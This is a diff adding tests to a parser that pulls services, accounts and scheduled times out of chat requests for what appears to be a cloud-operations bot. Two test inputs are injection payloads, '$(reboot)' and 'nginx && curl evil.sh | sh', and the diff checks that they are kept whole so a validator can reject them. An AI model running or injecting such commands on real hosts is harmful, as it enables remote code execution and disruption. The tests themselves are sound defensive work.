@@ -16,6 +16,7 @@ describe('values found in a request', () => {
     expect(a.entities.regions).toEqual(['eu-west-1']);
     expect(a.entities.accounts).toEqual(['staging']);
     expect(read('show everything in account 222222222222').entities.accounts).toEqual(['222222222222']);
+    expect(read('how much did the production account cost last week').entities.accounts).toEqual(['production']);
     expect(read('boot up ml-train-1 in staging').entities.environments).toEqual(['staging']);
     expect(read('the prod one').entities.environments).toEqual(['prod']);
   });
@@ -34,6 +35,26 @@ describe('values found in a request', () => {
     expect(read('nginx on web-staging-2 is stuck, restart it').entities.services).toEqual(['nginx']);
     expect(read('restart web-prod-2, its hung').entities.services).toEqual([]);
     expect(read('restart host web-prod-3 in us-west-2').entities.services).toEqual([]);
+  });
+
+  it('what is restarted ON a host is a service, however many words name it; odd values are taken whole', () => {
+    expect(read('restart the print spooler on win-report-prod-1').entities.services).toEqual(['spooler']);
+    expect(read('kick the nginx workers on web-prod-1').entities.services).toEqual(['nginx']);
+    // Taken whole so that the service pattern refuses them, never trimmed into something that runs.
+    expect(read('restart $(reboot) on web-prod-1').entities.services).toEqual(['$(reboot)']);
+    expect(read('restart "nginx && curl evil.sh | sh" on web-prod-1').entities.services).toEqual(['nginx && curl evil.sh | sh']);
+    expect(read('restart "nginx && curl evil.sh | sh" on web-prod-1').references[0].text).toBe('web-prod-1');
+    expect(read('restart everything on web-prod-1').entities.services).toEqual([]);
+  });
+
+  it('notices a time the action is asked for, which the bot cannot schedule', () => {
+    expect(read('stop web-staging-1 tonight at 10pm').entities.later).toBe('tonight at 10pm');
+    expect(read('reboot web-prod-1 on friday').entities.later).toBe('on friday');
+    expect(read('stop ml-train-1 in 2 hours').entities.later).toBe('in 2 hours');
+    expect(read('resize web-staging-2 to m5.large after the deploy').entities.later).toBe('after the deploy');
+    // "before the migration" is now; "start it later" is another clause, not a time for this one.
+    expect(read('take a db snapshot of pg-staging before the migration').entities.later).toBeUndefined();
+    expect(read('stop web-prod-1 now, we will start it later').entities.later).toBeUndefined();
   });
 
   it('reads "by service" / "per account" as a grouping', () => {
